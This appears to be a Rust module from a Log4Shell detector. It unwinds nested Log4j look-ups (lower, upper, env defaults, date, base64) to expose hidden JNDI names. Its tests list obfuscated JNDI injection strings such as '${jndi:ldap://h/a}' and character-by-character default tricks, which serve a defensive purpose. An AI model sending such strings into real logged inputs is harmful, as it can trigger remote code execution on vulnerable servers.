//! Resolves `${…}` look-ups: a stack of names being read, each folded into the one around it when it closes.

use std::ops::Range;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;

/// How deep look-ups may nest; deeper ones are read as text. Log4j 2.17 stops at its own recursion limit.
const MAX_DEPTH: usize = 12;
/// How much of one look-up's name is kept: a JNDI name shows within its first bytes.
const MAX_NAME: usize = 1024;

/// By what a name was spelled.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Spelling {
    /// As it stands.
    Plain,
    /// `${lower:…}`.
    Lower,
    /// `${upper:…}`.
    Upper,
    /// `${env:…:-…}`.
    Env,
    /// `${base64:…}`.
    Base64,
    /// Another look-up's value or default.
    Other,
}

/// A look-up whose inner look-ups are resolved.
pub(super) struct Resolved<'a> {
    /// What stands between its braces now.
    pub name: &'a [u8],
    /// The first kind of look-up that its name was spelled with.
    pub spelling: Spelling,
    /// Where it stands in the value, braces included.
    pub span: Range<usize>,
}

struct Frame {
    name: Vec<u8>,
    spelling: Spelling,
    start: usize,
}

impl Frame {
    fn push(&mut self, bytes: &[u8]) {
        let room = MAX_NAME.saturating_sub(self.name.len());
        self.name
            .extend_from_slice(bytes.get(..room).unwrap_or(bytes));
    }

    fn embed(&mut self, spelling: Spelling, value: &[u8]) {
        if self.spelling == Spelling::Plain {
            self.spelling = spelling;
        }
        self.push(value);
    }
}

/// Calls `see` with every look-up of `bytes`, inner ones first. One that the value's end cuts off counts as closed there.
pub(super) fn resolve(bytes: &[u8], mut see: impl FnMut(Resolved<'_>)) {
    let mut stack: Vec<Frame> = Vec::new();
    let mut close = |stack: &mut Vec<Frame>, end: usize| {
        if let Some(frame) = stack.pop() {
            see(Resolved {
                name: &frame.name,
                spelling: frame.spelling,
                span: frame.start..end,
            });
            if let Some(outer) = stack.last_mut() {
                let (spelling, value) = evaluate(&frame.name);
                outer.embed(spelling, &value);
            }
        }
    };
    let mut at = 0;
    while let Some(byte) = bytes.get(at) {
        if *byte == b'$' && bytes.get(at + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push(Frame {
                name: Vec::new(),
                spelling: Spelling::Plain,
                start: at,
            });
            at += 2;
            continue;
        }
        at += 1;
        if *byte == b'}' && !stack.is_empty() {
            close(&mut stack, at);
        } else if let Some(frame) = stack.last_mut() {
            frame.push(&[*byte]);
        }
    }
    while !stack.is_empty() {
        close(&mut stack, bytes.len());
    }
}

/// The value of a look-up on a server that knows none of its variables: its default, or what its name itself says.
fn evaluate(name: &[u8]) -> (Spelling, Vec<u8>) {
    let colon = name.iter().position(|byte| *byte == b':');
    let (prefix, argument) = match colon.and_then(|colon| name.split_at_checked(colon)) {
        Some((prefix, rest)) => (prefix, rest.get(1..).unwrap_or_default()),
        None => (name, &b""[..]),
    };
    match prefix.to_ascii_lowercase().as_slice() {
        // Written in the belief that nothing is in no case: `${upper::-j}`.
        b"lower" | b"upper" if argument.starts_with(b":-") => (
            Spelling::Other,
            argument.get(2..).unwrap_or_default().to_vec(),
        ),
        b"lower" => (Spelling::Lower, argument.to_ascii_lowercase()),
        b"upper" => (Spelling::Upper, argument.to_ascii_uppercase()),
        // A quoted part of a SimpleDateFormat stands for itself.
        b"date" => (
            Spelling::Other,
            argument
                .iter()
                .copied()
                .filter(|byte| *byte != b'\'')
                .collect(),
        ),
        b"base64" => {
            let digits: Vec<u8> = argument
                .iter()
                .copied()
                .take_while(|byte| *byte != b'=')
                .collect();
            (
                Spelling::Base64,
                STANDARD_NO_PAD.decode(digits).unwrap_or_default(),
            )
        }
        prefix => {
            let spelling = if prefix == b"env" {
                Spelling::Env
            } else {
                Spelling::Other
            };
            let default = name
                .windows(2)
                .position(|pair| pair == b":-")
                .and_then(|at| name.get(at + 2..));
            (spelling, default.unwrap_or_default().to_vec())
        }
    }
}

/// What `base64:…` decodes to, if that holds a look-up.
pub(super) fn base64_of_a_lookup(name: &[u8]) -> Option<Vec<u8>> {
    let starts = name
        .get(..7)
        .is_some_and(|start| start.eq_ignore_ascii_case(b"base64:"));
    if !starts {
        return None;
    }
    let (_, decoded) = evaluate(name);
    memchr::memmem::find(&decoded, b"${").map(|_| decoded)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn outermost(text: &str) -> String {
        let mut last = String::new();
        resolve(text.as_bytes(), |resolved| {
            last = resolved.name.escape_ascii().to_string();
        });
        last
    }

    #[test]
    fn look_ups_resolve_from_the_inside() {
        for (text, name) in [
            ("${jndi:ldap://h/a}", "jndi:ldap://h/a"),
            ("${${lower:J}ndi:x}", "jndi:x"),
            ("${${lower:${upper:jn}}di:x}", "jndi:x"),
            ("${${::-j}${::-n}${::-d}${::-i}:x}", "jndi:x"),
            ("${${:-j}ndi:x}", "jndi:x"),
            ("${${env:A:-j}ndi${env:A:-:}x}", "jndi:x"),
            ("${${date:'j'}ndi:x}", "jndi:x"),
            ("${${base64:am5kaQ==}:x}", "jndi:x"),
            ("${j${${:-l}${:-ower}:N}di:x}", "jndi:x"),
            ("${jnd${9%f:-${9%f:-i:}}x}", "jndi:x"),
            ("${j${x:y}ndi:x", "jndi:x"),
            ("no look-up }", ""),
        ] {
            assert_eq!(outermost(text), name, "{text}");
        }
    }

    #[test]
    fn depth_and_length_are_bounded() {
        let mut seen = 0;
        resolve("${".repeat(10_000).as_bytes(), |resolved| {
            seen += 1;
            assert!(resolved.name.len() <= MAX_NAME);
        });
        assert_eq!(seen, MAX_DEPTH);
    }
}
